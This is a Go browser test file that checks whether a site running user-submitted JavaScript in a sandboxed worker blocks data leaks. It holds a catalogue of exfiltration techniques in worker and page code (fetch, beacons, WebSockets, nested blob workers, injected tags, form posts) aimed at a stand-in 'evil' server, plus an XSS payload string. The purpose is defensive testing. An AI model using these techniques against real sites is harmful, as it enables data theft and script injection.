//go:build browser

package cli

import (
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"html"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// arrivals are the attacks that reached a server: the parameter leak of requests.
type arrivals struct {
	mu   sync.Mutex
	seen map[string]bool
}

func (a *arrivals) note(r *http.Request) bool {
	name := r.URL.Query().Get("leak")
	if name == "" {
		return false
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	a.seen[name] = true
	return true
}

func (a *arrivals) take() (names []string) {
	a.mu.Lock()
	defer a.mu.Unlock()
	for name := range a.seen {
		names = append(names, name)
	}
	a.seen = map[string]bool{}
	return names
}

// inWorker are attacks of code in a worker. E is the address of a server elsewhere, S of the site's folder; both take ?leak=.
const inWorker = `
const attacks = {
  fetch: (to) => fetch(to),
  blind: (to) => fetch(to, { mode: "no-cors", credentials: "include", method: "POST", body: "x", keepalive: true }),
  xhr: (to) => { const x = new XMLHttpRequest(); x.open("GET", to); x.send(); },
  now: (to) => { const x = new XMLHttpRequest(); x.open("GET", to, false); x.send(); },
  events: (to) => new EventSource(to),
  socket: (to) => new WebSocket(to.replace("http", "ws")),
  transport: (to) => new WebTransport(to.replace("http:", "https:")),
  scripts: (to) => importScripts(to),
  module: (to) => import(to),
  beacon: (to) => navigator.sendBeacon(to),
  font: (to) => { const f = new FontFace("x", "url(" + to + ")"); self.fonts.add(f); return f.load(); },
  worker: (to) => new Worker(to),
  moduleWorker: (to) => new Worker(to, { type: "module" }),
  dataWorker: (to) => new Worker("data:text/javascript," + encodeURIComponent("fetch(" + JSON.stringify(to) + ")")),
  nested: (to) => new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(to) + "); try { importScripts(" + JSON.stringify(to + "Scripts") + "); } catch {}"]))),
  nestedTwice: (to) => new Worker(URL.createObjectURL(new Blob(["new Worker(URL.createObjectURL(new Blob(['fetch(" + JSON.stringify(to) + ")'])))"]))),
  evaluated: (to) => Function("to", "fetch(to)")(to),
  location: (to) => { location = to; location.href = to; },
  top: (to) => { top.location = to; },
  parent: (to) => { parent.location = to; },
  open: (to) => open(to),
  peer: (to) => new RTCPeerConnection({ iceServers: [{ urls: "stun:" + new URL(to).host }] }).createDataChannel("x"),
  database: (to) => new Promise((ok, no) => { const r = indexedDB.open("leak"); r.onerror = no; r.onsuccess = ok; }),
  cache: (to) => caches.open("leak"),
  channel: (to) => new BroadcastChannel("leak").postMessage("x"),
  engine: (to) => new Worker(S + "worker.js?leak=engineItself").postMessage({ module: new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])) }),
};
for (const [where, at] of [["", E], ["Site", S + "index.html"]])
  for (const [name, attack] of Object.entries(attacks))
    try { Promise.resolve(attack(at + "?leak=" + name + where)).catch(() => {}); } catch (e) {}
`

// inDocument are attacks of code in a document.
const inDocument = `
const to = (name) => E + "?leak=" + name;
const add = (name, what) => document.documentElement.append(Object.assign(document.createElement(name), what));
const post = (target) => { const f = document.createElement("form"); f.action = to("form" + target); f.method = "post"; f.target = target; document.documentElement.append(f); f.submit(); };
for (const attack of [
  () => fetch(to("fetch")), () => navigator.sendBeacon(to("beacon")), () => add("img", { src: to("img") }), () => add("script", { src: to("script") }),
  () => add("link", { rel: "stylesheet", href: to("style") }), () => add("link", { rel: "prefetch", href: to("prefetch") }), () => add("link", { rel: "preload", as: "image", href: to("preload") }),
  () => add("link", { rel: "prerender", href: to("prerender") }), () => add("link", { rel: "icon", href: to("icon") }), () => add("link", { rel: "manifest", href: to("manifest") }),
  () => add("iframe", { src: to("iframe") }), () => add("embed", { src: to("embed") }), () => add("object", { data: to("object") }), () => add("video", { src: to("video") }), () => add("audio", { src: to("audio") }),
  () => { document.documentElement.style.background = "url(" + to("css") + ")"; },
  () => add("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ urls: [to("speculation")] }] }) }),
  () => { const a = Object.assign(document.createElement("a"), { href: to("a"), ping: to("ping"), target: "_blank" }); document.documentElement.append(a); a.click(); },
  () => { const a = Object.assign(document.createElement("a"), { href: to("download"), download: "x" }); document.documentElement.append(a); a.click(); },
  () => open(to("open")), () => post("_blank"), () => post("_top"), () => post("_self"), () => { top.location = to("top"); }, () => { parent.location = to("parent"); },
  () => navigator.serviceWorker.register(to("service")), () => { indexedDB.open("leak"); }, () => { localStorage.leak = "x"; }, () => { document.cookie = "leak=x"; },
  () => add("meta", { httpEquiv: "refresh", content: "0;url=" + to("refresh") }), () => { location = to("location"); },
]) try { Promise.resolve(attack()).catch(() => {}); } catch (e) {}
`

// TestBrowserSiteAttack: what a function under audit in JavaScript tries to send or to keep arrives nowhere, be it code in its worker, or, if there were
// a way out of that, in the frame around it. The same code in a page without a policy shows that the attacks work.
func TestBrowserSiteAttack(t *testing.T) {
	folder, err := builtSite()
	require.NoError(t, err)
	got := &arrivals{seen: map[string]bool{}}
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		got.note(r)
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Content-Type", "text/javascript")
	}))
	defer evil.Close()
	files := http.StripPrefix("/some/where/", http.FileServer(http.Dir(folder)))
	page, err := os.ReadFile(filepath.Join(folder, "javascript.html"))
	require.NoError(t, err)
	known := func(host, code string) string {
		return fmt.Sprintf("const E = %q, S = %q;\n%s", evil.URL+"/", "http://"+host+"/some/where/", code)
	}
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		got.note(r)
		http.SetCookie(w, &http.Cookie{Name: "session", Value: "secret"})
		switch r.URL.Path {
		case "/some/where/worker-anywhere.html":
			fmt.Fprintf(w, `<!DOCTYPE html><title>x</title><p id="answer">x<script>new Worker(URL.createObjectURL(new Blob([%q])))</script>`, known(r.Host, inWorker))
		case "/some/where/document-anywhere.html":
			fmt.Fprintf(w, `<!DOCTYPE html><title>x</title><p id="answer">x<script>%s</script>`, known(r.Host, inDocument))
		case "/some/where/attacked.html": // the page with the attacks in place of the frame's own script
			frame := html.UnescapeString(regexp.MustCompile(`data-frame="([^"]*)"`).FindStringSubmatch(string(page))[1])
			own := regexp.MustCompile(`(?s)<script>(.*)</script>`).FindStringSubmatch(frame)[1]
			hash := func(script string) string {
				sum := sha256.Sum256([]byte(script))
				return "sha256-" + base64.StdEncoding.EncodeToString(sum[:])
			}
			changed := strings.NewReplacer(own, known(r.Host, inDocument), hash(own), hash(known(r.Host, inDocument))).Replace(frame)
			text := strings.Replace(html.UnescapeString(string(page)), hash(own), hash(known(r.Host, inDocument)), 1)
			text = strings.Replace(text, frame, html.EscapeString(changed), 1)
			require.Contains(t, text, html.EscapeString(hash(known(r.Host, inDocument))))
			_, _ = w.Write([]byte(text))
		default:
			files.ServeHTTP(w, r)
		}
	}))
	defer site.Close()
	address := site.URL + "/some/where/"

	elsewhere, _ := browser(t) // a browser of its own: attacks that work open windows
	for name, want := range map[string][]string{
		"worker":   {"fetch", "blind", "xhr", "now", "events", "socket", "scripts", "module", "nested", "nestedScripts", "nestedTwice", "evaluated", "dataWorker", "fetchSite", "workerSite", "engineItself", "font"},
		"document": {"fetch", "beacon", "img", "script", "style", "prefetch", "preload", "iframe", "css", "open", "a", "download"},
	} {
		require.NoError(t, chromedp.Run(elsewhere, open(address+name+"-anywhere.html"), chromedp.Sleep(2*time.Second)))
		assert.Subset(t, got.take(), want, name)
	}

	ctx, _ := browser(t) // what is refused is an error on the console
	var word, text, at string
	var kept int
	keeps := chromedp.Evaluate(`(async () => (await indexedDB.databases()).filter((d) => d.name === "leak").length + (await caches.keys()).length + localStorage.length + window.heard.length)()`, &kept,
		func(p *runtime.EvaluateParams) *runtime.EvaluateParams { return p.WithAwaitPromise(true) })
	listens := chromedp.Evaluate(`window.heard = []; new BroadcastChannel("leak").onmessage = (e) => heard.push(e.data); document.getElementById("n").value = 2`, nil)
	function := "(() => {" + known(strings.TrimPrefix(site.URL, "http://"), inWorker) + "let asked = 0; return (scores) => { const t = performance.now(); while (asked < 40 && performance.now() - t < 50); asked++; return scores.map(() => 1 / scores.length); }; })()"
	require.NoError(t, chromedp.Run(ctx, open(address+"javascript.html"), listens, typed("code", function), chromedp.Click("form button", chromedp.ByQuery), answerShown(&word), chromedp.Text(".board", &text, chromedp.ByQuery), chromedp.Sleep(time.Second), keeps, chromedp.Location(&at)))
	assert.Equal(t, "Yes: it is 1-DP on what was examined", word, text)
	assert.Empty(t, got.take())
	assert.Zero(t, kept)
	assert.True(t, strings.HasPrefix(at, address+"javascript.html"), at)

	require.NoError(t, chromedp.Run(ctx, open(address+"attacked.html"), listens, chromedp.Click("form button", chromedp.ByQuery), chromedp.Sleep(3*time.Second), keeps, chromedp.Location(&at)))
	assert.Empty(t, got.take())
	assert.Zero(t, kept)
	assert.True(t, strings.HasPrefix(at, address+"attacked.html"), at)
}

// TestBrowserSiteAnswers: what a function sends in place of probabilities is shown as a finding, as text.
func TestBrowserSiteAnswers(t *testing.T) {
	ctx, at, errors := siteServed(t)
	var word, page string
	for code, want := range map[string]string{
		`(() => { addEventListener("message", (e) => { e.stopImmediatePropagation(); postMessage({ pmf: { length: 1e9 } }); }); return 0; })()`:                                                   "it returned no list of probabilities",
		`(() => { addEventListener("message", (e) => { e.stopImmediatePropagation(); postMessage(null); }); return 0; })()`:                                                                       "it returned no list of probabilities",
		`(() => { addEventListener("message", (e) => { e.stopImmediatePropagation(); postMessage({ pmf: [, {}] }); }); return 0; })()`:                                                            "NaN",
		`(() => { addEventListener("message", (e) => { e.stopImmediatePropagation(); postMessage({ pmf: Array(2000).fill(0) }); }); return 0; })()`:                                               "it returned no list of probabilities",
		`() => { throw new Error("<img src=x onerror=alert(1)>\u202e" + "\\n::error::"); }`:                                                                                                       `<img src=x onerror=alert(1)>\u202e`,
		`(() => { addEventListener("message", (e) => { e.stopImmediatePropagation(); postMessage({ module: new WebAssembly.Module(new Uint8Array([0,97,115,109,1,0,0,0])) }); }); return 0; })()`: "",
	} {
		require.NoError(t, chromedp.Run(ctx, open(at+"javascript.html"), typed("code", code), typed("n", "2"), chromedp.Click("form button", chromedp.ByQuery), answerShown(&word), chromedp.Text(".board", &page, chromedp.ByQuery)))
		assert.Contains(t, page, want, code)
		assert.NotContains(t, word, "Yes", code)
	}
	assert.Empty(t, *errors)
}
